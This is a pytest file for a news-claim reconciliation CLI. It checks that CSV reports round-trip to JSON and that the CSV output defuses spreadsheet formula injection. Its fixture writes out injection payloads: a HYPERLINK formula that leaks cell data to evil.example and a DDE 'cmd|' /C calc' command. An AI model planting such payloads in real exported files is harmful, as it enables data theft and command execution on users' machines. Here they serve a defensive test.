"""`reconcile report --format csv` and `reconcile claims`: the CSV round-trips to the JSON report.

The bundled corpus and the test corpus go through the real command line; the CSV is read back
with Python's csv module and must give the same findings, claims and values as `--format json`.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import CORPUS_CLAIM_IDS
from test_cli import assert_input_error, claim_row, stderr_lines, write_claims

from reconcile.cli import ClaimsFormat, cli
from reconcile.render.rows import CLAIM_COLUMNS, FINDING_COLUMNS

ROOT = Path(__file__).resolve().parent.parent


def read_csv(text: str) -> list[dict[str, str]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader)


def findings_from_rows(rows: list[dict[str, str]]) -> list[dict]:
    """The findings the CSV rows describe, in `finding` order: the JSON's keys, rebuilt from cells."""
    out: dict[int, dict] = {}
    for row in rows:
        finding = out.setdefault(int(row["finding"]), {
            "kind": row["kind"], "incident": row["incident"] or None, "action": row["action"] or None,
            "object": row["object"] or None, "claims": [], "summary": row["summary"], "reason": row["reason"] or None,
        })
        finding["claims"].append(row["claim"])
    assert sorted(out) == list(range(1, len(out) + 1)), "findings are numbered 1, 2, ... without gaps"
    return [out[n] for n in sorted(out)]


def _run(*args: str):
    result = CliRunner().invoke(cli, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


@pytest.mark.parametrize("extract", [False, True], ids=["curated", "with-extraction"])
def test_sample_corpus_csv_round_trips_to_the_json_findings(monkeypatch, extract):
    monkeypatch.chdir(ROOT)
    flags = [] if extract else ["--no-extract"]
    data = json.loads(_run("report", "--format", "json", *flags).stdout)
    rows = read_csv(_run("report", "--format", "csv", *flags).stdout)
    assert rows and list(rows[0]) == list(FINDING_COLUMNS)
    assert len(rows) == sum(len(f["claims"]) for f in data["findings"])
    keys = ("kind", "incident", "action", "object", "claims", "summary", "reason")
    assert findings_from_rows(rows) == [{k: f.get(k) for k in keys} for f in data["findings"]]
    claims = {c["id"]: c for c in data["claims"]}
    sources = {s["id"]: s for s in data["sources"]}
    for row in rows:
        claim = claims[row["claim"]]
        source = sources[claim["source"]]
        assert (row["quote"], row["speaker"], row["party"]) == (claim["quote"], claim["speaker"] or "",
                                                                claim["party"] or "")
        assert (row["outlet"], row["url"], row["source"]) == (source["outlet"], source["url"] or "", source["id"])
        assert row["date"] == (source["published_at"] or source["published"])
        if claim["low"] is None:
            assert row["low"] == row["high"] == "" and row["figure"].endswith(claim["value"])
        else:
            assert float(row["low"]) == claim["low"]
            assert row["high"] == "" if claim["high"] is None else float(row["high"]) == claim["high"]


def test_sample_corpus_claims_csv_round_trips_to_the_json_claims(monkeypatch):
    monkeypatch.chdir(ROOT)
    data = json.loads(_run("report", "--format", "json").stdout)
    rows = read_csv(_run("claims", "--format", "csv").stdout)
    assert rows and list(rows[0]) == list(CLAIM_COLUMNS)
    assert [r["claim"] for r in rows] == [c["id"] for c in data["claims"]]
    for row, claim in zip(rows, data["claims"], strict=True):
        assert row["quote"] == claim["quote"] and row["source"] == claim["source"]
        assert row["incident"] == (claim["incident"] or "") and row["origin"] == claim["origin"]
        assert row["places"] == "; ".join(claim["places"])
        assert row["event_date"] == (claim["event_date"] or "")
    unsourced = {c for f in data["findings"] if f["kind"] == "unsourced" for c in f["claims"]}
    assert unsourced and {r["claim"] for r in rows if "unsourced" in r["findings"].split(", ")} == unsourced


@pytest.mark.usefixtures("claims_file")
@pytest.mark.parametrize("command", [["report"], ["claims"]])
def test_output_file(run_cli, tmp_path, command):
    shown = run_cli(*command, "--no-extract", "--format", "csv")
    written = run_cli(*command, "--no-extract", "--format", "csv", "-o", "out.csv")
    assert written.exit_code == 0 and written.stdout == ""
    assert stderr_lines(written) == ["wrote out.csv"]
    assert (tmp_path / "out.csv").read_bytes() == shown.stdout_bytes
    assert b"\r\n" in shown.stdout_bytes and b"\r\r\n" not in shown.stdout_bytes


@pytest.mark.usefixtures("claims_file")
def test_output_file_in_a_missing_folder(run_cli):
    assert_input_error(run_cli("report", "--format", "csv", "-o", "nowhere/out.csv"), "nowhere/out.csv",
                       words="cannot write")


@pytest.mark.usefixtures("claims_file")
def test_only_and_incident_narrow_the_csv(run_cli):
    rows = read_csv(run_cli("report", "--no-extract", "--format", "csv", "--only", "contradictions").stdout)
    assert rows and {r["kind"] for r in rows} == {"contradiction"}
    rows = read_csv(run_cli("report", "--no-extract", "--format", "csv", "--incident", "odesa-2024-05-02").stdout)
    assert rows and {r["incident"] for r in rows} == {"odesa-2024-05-02"}


@pytest.mark.usefixtures("claims_file")
def test_claims_listing(run_cli):
    table = run_cli("claims", "--no-extract")
    assert table.exit_code == 0, table.output
    assert table.stdout.startswith("Claims")
    # ids fold in their narrow column; the quote of each claim is whole
    folded = "".join(table.stdout.split())
    for claim_id in CORPUS_CLAIM_IDS:
        assert claim_id in folded
    assert "\x1b" not in table.stdout
    listing = json.loads(run_cli("claims", "--no-extract", "--format", "json").stdout)
    report = json.loads(run_cli("report", "--no-extract", "--format", "json").stdout)
    assert listing["schema"] == "reconcile/claims@1"
    assert listing["claims"] == report["claims"] and listing["sources"] == report["sources"]


def test_claims_listing_of_no_claims(run_cli, tmp_path):
    (tmp_path / "sources").mkdir()
    assert run_cli("claims").stdout == "No claims.\n"
    assert run_cli("claims", "--format", "csv").stdout_bytes == (",".join(CLAIM_COLUMNS) + "\r\n").encode()


def test_claims_bad_input_is_one_line(run_cli, corpus_dir, tmp_path):
    write_claims(tmp_path, '[[claim]]\nid = "broken\n')
    for fmt in ("table", "json", "csv"):
        assert_input_error(run_cli("claims", "--format", fmt), "claims.toml", 2, "invalid TOML")


@pytest.mark.parametrize("fmt", list(ClaimsFormat))
def test_every_claims_format_resolves_to_a_renderer(fmt):
    assert hasattr(fmt.to_renderer(), "render")


# -- hostile articles: formulas in quotes, speakers and outlets

FORMULA_BODY = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details") said the mayor about the port.\n\n'
    "+1+cmd|' /C calc'!A0 was painted on the wall, the police said.\n\n"
    "-2+3 people were hurt, the harbour master said.\n\n"
    "@SUM(A1:A9) drones were seen, the air command said.\n"
)


@pytest.fixture
def formula_corpus(make_source, tmp_path):
    make_source("formula-post-2024-05-02", FORMULA_BODY, outlet="=cmd|' /C calc'!A0", published=date(2024, 5, 2),
                url="https://formula.example/=1+1", party="independent-media")
    rows = [
        ('=HYPERLINK("https://evil.example/?leak="&A1,"Details")', "=Mayor Evil", "injured", 2),
        ("+1+cmd|' /C calc'!A0", "+Police", "injured", 3),
        ("-2+3 people were hurt", "-Harbour master", "injured", 4),
        ("@SUM(A1:A9) drones were seen", "@Air command", "launched", 5),
    ]
    write_claims(tmp_path, "".join(
        claim_row(id=f"f{i}", source="formula-post-2024-05-02", quote=quote, speaker=speaker, party="other",
                  action=action, object="people" if action == "injured" else "drones", value=value,
                  places=["Odesa"], date=date(2024, 5, 2))
        for i, (quote, speaker, action, value) in enumerate(rows)))


@pytest.mark.usefixtures("formula_corpus")
@pytest.mark.parametrize("command", [["report"], ["claims"]])
def test_formulas_in_articles_are_defused(run_cli, command):
    result = run_cli(*command, "--no-extract", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout)
    assert rows
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    quotes = {r["quote"] for r in rows}
    assert "'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")" in quotes
    assert "'-2+3 people were hurt" in quotes
    assert {r["outlet"] for r in rows} == {"'=cmd|' /C calc'!A0"}
    # The JSON keeps the text as written: only the CSV defuses it
    data = json.loads(run_cli("report", "--no-extract", "--format", "json").stdout)
    assert {c["quote"] for c in data["claims"]} >= {"-2+3 people were hurt", "@SUM(A1:A9) drones were seen"}
